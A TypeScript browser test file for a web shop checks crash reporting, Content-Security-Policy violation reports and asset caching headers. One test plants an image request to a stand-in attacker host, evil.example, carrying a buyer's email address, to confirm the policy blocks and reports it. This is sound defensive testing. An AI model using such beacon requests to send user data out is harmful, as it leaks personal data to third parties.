import { randomUUID } from "node:crypto";
import { beforeEach, describe, expect, test } from "vitest";
import { Report } from "../../worker/http/contract/reports.ts";
import { visits } from "./visits.ts";

const visit = visits({ ticker: false });
let { system, page, seen } = visit;
beforeEach(() => {
  ({ system, page, seen } = visit);
});

describe("a page that breaks", () => {
  /** Takes what the visit has seen of it, which is meant. */
  const seenOf = (kind: "crashes" | "violations") => seen[kind].splice(0);
  const reported = async () => {
    const sent = await page.waitForRequest((request) => request.url().endsWith("/api/reports"));
    return { body: Report.parse(sent.postDataJSON()), answer: await sent.response() };
  };

  test("says so, tells the shop once and nothing of anybody, and leads on", async () => {
    const id = randomUUID();
    const address = `${system.shopUrl}/products/${id}?from=${id}#${id}`;
    await page.route(`**/api/products/${id}`, (route) =>
      route.fulfill({ json: { of: "no shape" } }),
    );
    const [{ body, answer }] = await Promise.all([reported(), page.goto(address)]);
    await page.getByRole("heading", { name: "Something is broken on this page" }).waitFor();
    expect(answer?.status()).toBe(202);
    expect(body).toMatchObject({ kind: "page", path: "/products/:id" });
    expect(body.message).toMatch(/^TypeError: /);
    expect(body.stack.length).toBeGreaterThan(0);
    expect(JSON.stringify(body)).not.toContain(id);
    // The shop's own head is still there.
    await page.getByRole("navigation", { name: "Shop" }).waitFor();

    await page.getByRole("link", { name: "Go to the shop" }).click();
    const title = page.getByRole("heading", { level: 1 });
    await expect.poll(() => title.textContent()).not.toContain("broken");
    await page.goBack();
    await page.getByRole("button", { name: "Load this page anew" }).waitFor();
    await page.unroute(`**/api/products/${id}`);
    await page.getByRole("button", { name: "Load this page anew" }).click();
    await page.getByRole("alert").waitFor();
    expect(seenOf("crashes").filter((text) => text.includes('"kind"'))).toHaveLength(1);
  });

  test("tells what the policy has stopped, by its origin alone, and of others' mistakes nothing", async () => {
    await page.goto(system.shopUrl);
    const [{ body }] = await Promise.all([
      reported(),
      page.evaluate(() => {
        new Image().src = "http://evil.example/who?is=ada@buyers.example";
        // No file of ours is in its stack.
        void Promise.reject(new Error("an extension's"));
      }),
    ]);
    expect(body).toMatchObject({ kind: "policy", path: "/" });
    expect(body.message).toBe("img-src http://evil.example");
    expect(seenOf("violations")).not.toEqual([]);
    expect(seenOf("crashes").filter((text) => text.includes('"kind"'))).toHaveLength(1);
  });
});

test("files of the build are kept for ever and never asked for again; what is gone, and pages, are not", async () => {
  const { shopUrl } = system;
  const shop = await fetch(shopUrl);
  expect(shop.headers.get("Cache-Control")).toBe("no-store");
  expect(shop.headers.get("Access-Control-Allow-Origin")).toBeNull();
  const scripts = (await shop.text()).matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g);
  const paths = [...scripts].flatMap(([, path]) => path ?? []);
  expect(paths.length).toBeGreaterThan(2);
  for (const path of paths) {
    const { status, headers } = await fetch(`${shopUrl}${path}`);
    expect([path, status]).toEqual([path, 200]);
    expect(headers.get("Cache-Control")).toBe("public, max-age=31536000, immutable");
    expect(headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(headers.get("Content-Security-Policy")).toBe("frame-ancestors 'none'");
    expect(headers.get("Access-Control-Allow-Origin")).toBeNull();
  }
  const gone = await fetch(`${shopUrl}/assets/start-of-yesterday.js`);
  expect([gone.status, gone.headers.get("Cache-Control")]).toEqual([404, "no-store"]);
  for (const path of ["/robots.txt", "/manifest.webmanifest", "/favicon.svg"]) {
    const { status, headers } = await fetch(`${shopUrl}${path}`);
    expect([path, status, headers.get("Referrer-Policy")]).toEqual([path, 200, "strict-origin"]);
  }
});
